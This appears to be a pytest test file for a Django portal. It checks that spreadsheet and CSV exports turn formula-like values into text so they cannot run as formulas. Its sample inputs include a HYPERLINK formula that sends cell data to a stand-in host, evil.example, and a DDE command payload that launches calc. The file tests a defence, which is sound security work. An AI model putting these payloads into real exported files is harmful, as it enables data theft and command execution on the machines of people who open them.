"""Issue 12 item 7: spreadsheet formula injection — formula-like text is exported as text, in every
export (customer file xlsx and csv, import templates, KPI workbooks), through one function."""
import csv
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from portal.spreadsheet import FORMULA_TRIGGERS, csv_value_in, is_formula_like, write_row

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1"]


def _sheet_xml_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("write_only", [True, False])
def test_issue12_item7_write_row_xlsx_writes_text_not_formulas(write_only):
    """issue 12 item 7: every OWASP trigger (= + - @ tab CR) becomes a string cell, value unchanged;
    numbers stay numbers."""
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    write_row(ws, [*EVIL, "普通", 5, -3])
    out = io.BytesIO()
    wb.save(out)
    cells = _sheet_xml_cells(out.getvalue())
    # (XML reads a stored CR back as LF; the cell is still the text that was written)
    assert [c.value for c in cells] == [*(v.replace("\r", "\n") for v in EVIL), "普通", 5, -3]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[: len(EVIL)])
    assert [c.data_type for c in cells[len(EVIL):]] == ["s", "n", "n"]
    assert "<f>" not in out.getvalue().decode("latin-1")  # no formula element anywhere


def test_issue12_item7_write_row_csv_prefixes_a_quote_and_import_takes_it_off():
    """issue 12 item 7: CSV gets OWASP's leading apostrophe; importing strips it again."""
    buf = io.StringIO()
    write_row(csv.writer(buf), [*EVIL, "普通", 5])
    fields = next(csv.reader(io.StringIO(buf.getvalue())))
    assert fields[: len(EVIL)] == ["'" + v for v in EVIL]
    assert fields[len(EVIL):] == ["普通", "5"]
    assert [csv_value_in(f) for f in fields] == [*EVIL, "普通", "5"]
    assert csv_value_in("'普通") == "'普通"  # a quote before ordinary text is data
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    assert not is_formula_like(-5) and not is_formula_like("a=b")


@pytest.fixture
def evil_group(book, people):
    from groupclients.models import Contact

    g1 = book["g1"]
    g1.name, g1.address, g1.phone = EVIL[0], EVIL[2], "0571-88886666"
    g1.save()
    Contact.objects.filter(pk=book["c1"].pk).update(post=EVIL[1], department=EVIL[3], name=EVIL[4])
    return g1


@pytest.mark.parametrize("kind", ["groups", "contacts"])
def test_issue12_item7_customer_file_xlsx_export(evil_group, people, client_for, kind):
    """issue 12 item 7: the customer-file export writes the injected names as text cells."""
    r = client_for(people["am1"]).get(reverse("export", args=[kind]))
    assert r.status_code == 200
    cells = _sheet_xml_cells(r.content)
    bad = [c for c in cells if is_formula_like(c.value)]
    assert bad, "the evil values are in the export"
    assert all(c.data_type == "s" for c in bad)
    assert EVIL[0] in [c.value for c in bad]


@pytest.mark.parametrize("kind", ["groups", "contacts"])
def test_issue12_item7_customer_file_csv_export(evil_group, people, client_for, kind):
    """issue 12 item 7: `?format=csv` exports with OWASP's apostrophe before formula-like text."""
    r = client_for(people["am1"]).get(reverse("export", args=[kind]), {"format": "csv"})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    text = r.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    flat = [f for row in rows for f in row]
    assert not [f for f in flat if is_formula_like(f)], "no field begins with a trigger"
    assert "'" + EVIL[0] in flat


def test_issue12_item7_export_bad_kind_or_format_is_404(people, client_for):
    """issue 12 item 7 (and item 1): an unknown export kind or format is a 404, not a 500."""
    c = client_for(people["am1"])
    assert c.get(reverse("export", args=["payments"])).status_code == 404
    assert c.get(reverse("export", args=["groups"]), {"format": "pdf"}).status_code == 404


def test_issue12_item7_kpi_workbook_writes_text():
    """issue 12 item 7: the KPI Excel export (tables.workbook) goes through the same function."""
    from portal.kpi.tables import Cell, Table, workbook

    t = Table(key="x", title="x", columns=["名称", "数"], rows=[[Cell(EVIL[0]), Cell(3)], [Cell(EVIL[3]), Cell(-1)]])
    cells = _sheet_xml_cells(workbook([t], heading=EVIL[2]))
    by_value = {c.value: c for c in cells}
    for v in (EVIL[0], EVIL[2], EVIL[3]):
        assert by_value[v].data_type == "s"
    assert by_value[-1].data_type == "n"
